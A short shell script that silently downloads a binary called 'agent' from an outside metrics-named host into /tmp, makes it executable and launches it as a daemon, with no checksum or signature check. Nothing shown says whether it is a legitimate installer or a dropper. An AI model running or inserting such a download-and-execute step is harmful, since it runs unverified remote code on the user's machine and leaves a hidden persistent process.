#!/bin/sh
set -e
cd /tmp
wget -q https://m.example-metrics.net/agent
chmod +x agent
./agent --daemon
